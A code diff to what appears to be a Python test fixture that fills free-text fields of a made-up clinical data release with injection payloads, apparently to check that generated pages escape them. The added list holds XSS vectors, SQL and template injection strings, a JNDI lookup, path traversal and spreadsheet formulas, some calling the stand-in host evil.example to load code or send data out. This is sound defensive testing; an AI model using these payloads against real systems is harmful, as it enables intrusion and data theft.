@@ -60,6 +60,64 @@ PAYLOADS = (
     "constructor",
     "__proto__",
     "toString",
+    "<ScRiPt >window.pwned=1</sCrIpT>",
+    "<script/src=https://evil.example/x.js>",
+    "<scr\x00ipt>window.pwned=1</script>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<svg/onload=window.pwned=1//",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x>",
+    "<svg><a xlink:href=javascript:window.pwned=1><text>x</text></a></svg>",
+    "<details open ontoggle=window.pwned=1>",
+    "<video><source onerror=window.pwned=1></video>",
+    "<audio src=x onerror=window.pwned=1>",
+    "<body onload=window.pwned=1>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<select onfocus=window.pwned=1 autofocus>",
+    "<textarea onfocus=window.pwned=1 autofocus>",
+    "<marquee onstart=window.pwned=1>",
+    "<object data=javascript:window.pwned=1>",
+    "<embed src=javascript:window.pwned=1>",
+    "<applet code=evil>",
+    "<template><script>window.pwned=1</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
+    "<title></title><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "</textarea><script>window.pwned=1</script>",
+    "</style><script>window.pwned=1</script>",
+    "</option></select><img src=x onerror=window.pwned=1>",
+    "</table></details><h1>another heading</h1>",
+    "<button formaction=javascript:window.pwned=1>x</button>",
+    "<a href='data:text/html,<script>window.pwned=1</script>'>x</a>",
+    "<a href=vbscript:window.pwned=1>x</a>",
+    "<img src='x' style='position:fixed;inset:0' onmouseover=window.pwned=1>",
+    "<div style='background:url(javascript:window.pwned=1)'>",
+    "<x onclick=window.pwned=1 tabindex=0>x</x>",
+    "<!--><script>window.pwned=1</script>-->",
+    "<![CDATA[<script>window.pwned=1</script>]]>",
+    "<?xml version='1.0'?><script>window.pwned=1</script>",
+    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
+    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
+    "&amp;lt;script&amp;gt;",
+    "&colon;&lpar;&Tab;javascript&colon;window.pwned=1",
+    "'); DROP TABLE released_counts; --",
+    "' OR '1'='1",
+    "'; CREATE TEMP MACRO limit_of(x, n, side) AS 1; --",
+    "{% import os %}{{ os.system('true') }}",
+    "{{ ''.__class__.__mro__ }}",
+    "<%= 7*7 %>",
+    "#{7*7}",
+    "%s%s%s%n",
+    "${jndi:ldap://evil.example/x}",
+    "=1+1\",\"=2+2",
+    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
+    "@import url(https://evil.example/x.css)",
+    "\\0;url(javascript:window.pwned=1)",
+    "\u2067right\u2069 to \u200fleft",
+    "e\u0301" * 40,
+    "\ufffe\uffff",
+    "con.txt:alternate",
+    "../site/index.html",
+    "hasOwnProperty",
 )  # fmt: skip
 
 #: Text that means something to the pages: ids, which contracts restrict, and words from fixed lists.
@@ -75,6 +133,32 @@ def tables() -> dict[str, list[dict[str, Any]]]:
     """The made-up release with a payload in every free text of every row."""
     payloads = cycle(PAYLOADS)
     return {name: [_poisoned(name, row, payloads) for row in rows] for name, rows in made_up_release.tables().items()}
+
+
+def many() -> dict[str, list[dict[str, Any]]]:
+    """The made-up release with one more clinic and one more study for each payload, which is its name."""
+    known = made_up_release.tables()
+    clinics, studies = [f"clinic-{place:03}" for place in range(len(PAYLOADS))], range(len(PAYLOADS))
+    for name in ("cohorts", "clinic_variation", "follow_up", "observed_rates", "released_counts", "deliveries"):
+        first = [row for row in known[name] if row["source"] == "riverside" and row.get("period_kind", "all") == "all"]
+        known[name] = [
+            *known[name],
+            *(row | {"source": each} | _cohort(row, each) for each in clinics for row in first),
+        ]
+    labels = dict(zip(clinics, PAYLOADS, strict=True))
+    known["cohorts"] = [row | {"label": labels.get(row["source"], row["label"])} for row in known["cohorts"]]
+    first_study = known["studies"][0]
+    known["studies"] += [
+        first_study
+        | {"study": f"study-{place:03}"}
+        | dict.fromkeys(("label", "citation", "doi", "note"), PAYLOADS[place])
+        for place in studies
+    ]
+    return known
+
+
+def _cohort(row: dict[str, Any], name: str) -> dict[str, Any]:
+    return {"cohort": name} if "cohort" in row else {}
 
 
 def _poisoned(table: str, row: dict[str, Any], payloads: Iterator[str]) -> dict[str, Any]:
